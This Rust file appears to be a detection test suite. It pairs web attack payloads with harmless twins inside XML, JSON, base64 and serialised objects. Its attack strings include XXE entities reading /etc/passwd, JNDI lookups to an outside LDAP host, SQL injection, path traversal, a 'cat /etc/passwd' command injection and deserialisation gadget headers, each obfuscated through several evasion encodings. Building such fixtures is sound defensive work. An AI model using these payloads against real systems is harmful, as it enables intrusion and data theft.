//! Attacks inside XML, JSON, base64 and serialised objects.

use crate::encode::{
    base64, base64_lines, base64_url, gzip, hex_references, unicode_escapes, utf7,
};
use crate::request::Request;
use crate::{Case, Item};

const LOOKUP: &str = "${jndi:ldap://203.0.113.9/a}";
const HARMLESS: &str = "${java:version} of the host 203.0.113.9";
const SQL: &str = "x' union select name,2 from users-- ";
const PROSE: &str = "a union to select names, 2 from us";

pub fn items() -> Vec<Item> {
    vec![
        ("G19 XML", xml()),
        ("G20 JSON", json()),
        ("G21 base64", base64_texts()),
        ("G22 serialised and packed", serialised()),
    ]
}

fn xml() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut pair = |attack: String, twin: String| {
        cases.push(Case::new(Request::xml(attack), Request::xml(twin)));
    };
    let document = |declared: &str, text: &str| {
        format!("<?xml version=\"1.0\"?><!DOCTYPE a [{declared}]><a>{text}</a>")
    };
    for (declared, harmless) in [
        (
            "<!ENTITY b SYSTEM \"file:///etc/passwd\">",
            "<!ENTITY b \"file:///etc/passwd\">",
        ),
        (
            "<!ENTITY b PUBLIC \"x\" 'http://203.0.113.9/x'>",
            "<!ENTITY b 'PUBLIC http://203.0.113.9/x'>",
        ),
        (
            "<!ENTITY % b SYSTEM \"http://203.0.113.9/x.dtd\"> %b;",
            "<!ENTITY % b \"x.dtd\">",
        ),
        (
            "<!ENTITY\n\tb\n\tSYSTEM\n\t\"php://filter/x\">",
            "<!ENTITY\n\tb\n\t\"SYSTEM\">",
        ),
    ] {
        pair(document(declared, "&b;"), document(harmless, "&b;"));
        pair(
            utf7(&document(declared, "&b;")),
            utf7(&document(harmless, "&b;")),
        );
    }
    // A document in the document, as web services have it.
    let inner = |text: &str| format!("<s>{}</s>", text.replace('<', "&lt;").replace('>', "&gt;"));
    pair(
        inner(&document("<!ENTITY b SYSTEM \"file:///x\">", "&b;")),
        inner(&document("<!ENTITY b \"file:///x\">", "&b;")),
    );
    pair(
        format!("<a>{}</a>", LOOKUP.replace("jndi", "j<![CDATA[nd]]>i")),
        format!("<a>{}</a>", HARMLESS.replace("java", "j<![CDATA[av]]>a")),
    );
    pair(
        format!(
            "<a><![CDATA[{}]]></a>",
            LOOKUP.replace("nd", "n]]><![CDATA[d")
        ),
        format!(
            "<a><![CDATA[{}]]></a>",
            HARMLESS.replace("av", "a]]><![CDATA[v")
        ),
    );
    pair(
        format!(
            "<a>{}</a>",
            SQL.replace("union select", "un<!-- -->ion sel<![CDATA[ect]]>")
        ),
        format!("<a>{}</a>", PROSE.replace("union", "un<!-- -->ion")),
    );
    pair(
        document(
            "<!ENTITY p \"${jn\"><!ENTITY q \"di:ldap://203.0.113.9/a}\">",
            "&p;&q;",
        ),
        document("<!ENTITY p \"${ja\"><!ENTITY q \"va:version}\">", "&p;&q;"),
    );
    pair(
        document(
            "<!ENTITY p \"&#36;{jndi\"><!ENTITY q \"&p;:rmi://203.0.113.9/a}\">",
            "&q;",
        ),
        document(
            "<!ENTITY p \"&#36;{java\"><!ENTITY q \"&p;:version}\">",
            "&q;",
        ),
    );
    pair(
        utf7(&format!("<a>{LOOKUP}</a>")),
        utf7(&format!("<a>{HARMLESS}</a>")),
    );
    pair(
        format!("<a b=\"{}\"/>", hex_references(SQL)),
        format!("<a b=\"{}\"/>", hex_references(PROSE)),
    );
    pair(
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></a>".to_owned(),
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:fallback/>href file</a>".to_owned(),
    );
    cases
}

fn json() -> Vec<Case> {
    let case = |attack: String, twin: String| {
        let make = |body| Request::post("application/json", body);
        Case::new(make(attack), make(twin))
    };
    let mut cases = Vec::new();
    for (attack, twin) in [
        (LOOKUP, HARMLESS),
        (SQL, PROSE),
        ("../../../../etc/passwd", "../../src/main.rs"),
        ("x;cat /etc/passwd", "x cat, etc/passwd"),
    ] {
        for wrap in [
            |text: &str| format!("{{\"q\":\"ok\",\"q\":\"{text}\"}}"),
            |text: &str| format!("{{\"q\":\"{text}\",\"q\":\"ok\"}}"),
            |text: &str| format!("{{\"q\":\"{}\"}}", unicode_escapes(text)),
            |text: &str| format!("{{\"q\":\"{}\"}}", text.replace('/', "\\/")),
            |text: &str| format!("{{/* a */\"q\"/* b */:// c\n\"{text}\"/* d */}}"),
            |text: &str| format!("{{\"{}\":[[{{\"q\":[\"{text}\"]}}]]}}", "k".repeat(300)),
        ] {
            cases.push(case(wrap(attack), wrap(twin)));
        }
    }
    cases
}

fn base64_texts() -> Vec<Case> {
    let mut cases = Vec::new();
    let long = |text: &str| {
        format!(
            "{{\"padding\": \"{}\", \"text\": \"{text}\"}}",
            "abc?>~".repeat(20)
        )
    };
    for (attack, twin) in [
        (LOOKUP, HARMLESS),
        (SQL, PROSE),
        ("x;cat /etc/passwd", "x cat, etc/passwd"),
    ] {
        let (attack, twin) = (long(attack), long(twin));
        let both = |make: &dyn Fn(&[u8]) -> Request| {
            Case::new(make(attack.as_bytes()), make(twin.as_bytes()))
        };
        cases.push(both(&|b| {
            Request::get("/").with("Cookie", format!("state={}", base64(b)))
        }));
        cases.push(both(&|b| {
            Request::get(format!("/state?s={}", base64_url(b)))
        }));
        cases.push(both(&|b| Request::get(format!("/state/{}", base64_url(b)))));
        cases.push(both(&|b| {
            Request::get(format!(
                "/state?s={}",
                base64(b).replace('+', "%2B").replace('=', "%3d")
            ))
        }));
        cases.push(both(&|b| {
            Request::xml(format!("<d>\r\n{}\r\n</d>", base64_lines(b, "\r\n")))
        }));
        cases.push(both(&|b| {
            Request::xml(format!("<d>{}</d>", base64_lines(b, "\n")))
        }));
        cases.push(both(&|b| {
            Request::post(
                "application/json",
                format!("{{\"d\":\"{}\"}}", base64_lines(b, "\\r\\n")),
            )
        }));
        cases.push(both(&|b| {
            Request::post(
                "application/x-www-form-urlencoded",
                format!("d={}", base64_lines(b, "%0d%0a")),
            )
        }));
        cases.push(both(&|b| {
            Request::xml(format!("<d>data:text/plain;base64,{}</d>", base64(b)))
        }));
    }
    cases
}

/// An object of Java's serialisation protocol, section 6.4.2: its class has one field.
fn java(class: &str) -> Vec<u8> {
    let mut bytes = vec![0xac, 0xed, 0, 5, b's', b'r'];
    bytes.extend_from_slice(&(class.len() as u16).to_be_bytes());
    bytes.extend_from_slice(class.as_bytes());
    bytes.extend_from_slice(&[1, 2, 3, 4, 5, 6, 7, 8, 2, 0, 1]);
    bytes.extend_from_slice(b"L\0\x05valuet\0\x12Ljava/lang/Object;xpt\0\x05hello");
    bytes
}

fn serialised() -> Vec<Case> {
    let objects = [
        (
            java("org.apache.commons.collections.functors.InvokerTransformer"),
            java("java.util.concurrent.atomic.AtomicReference"),
        ),
        (
            java("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
            java("org.example.templates.TemplateHolder"),
        ),
        (
            br#"O:37:"Monolog\Handler\FingersCrossedHandler":1:{s:7:"handler";r:1;}"#.to_vec(),
            br#"O:8:"stdClass":1:{s:4:"list";a:1:{i:0;s:24:"Monolog is a log handler";}}"#.to_vec(),
        ),
        (
            br#"a:1:{i:0;O:32:"GuzzleHttp\Cookie\FileCookieJar":1:{s:4:"file";s:5:"x.php";}}"#
                .to_vec(),
            br#"a:1:{i:0;O:16:"App\Models\Order":1:{s:2:"id";i:5;}}"#.to_vec(),
        ),
    ];
    let mut cases = Vec::new();
    for (attack, twin) in &objects {
        let both = |make: &dyn Fn(&[u8]) -> Request| Case::new(make(attack), make(twin));
        cases.push(both(&|b| Request::post("application/octet-stream", b)));
        cases.push(both(&|b| {
            Request::get("/").with("Cookie", format!("s={}", base64(b)))
        }));
        cases.push(both(&|b| Request::get(format!("/v?s={}", base64_url(b)))));
        cases.push(both(&|b| {
            Request::get("/").with("Cookie", format!("s={}", base64(&gzip(b))))
        }));
        cases.push(both(&|b| {
            Request::get(format!("/v?s={}", base64_url(&gzip(b))))
        }));
        cases.push(both(&|b| {
            Request::xml(format!("<o>{}</o>", base64_lines(&gzip(b), "\r\n")))
        }));
        cases.push(both(&|b| {
            let packed = base64(&gzip(b)).replace('/', "\\/");
            Request::post("application/json", format!("{{\"o\":\"{packed}\"}}"))
        }));
    }
    cases
}
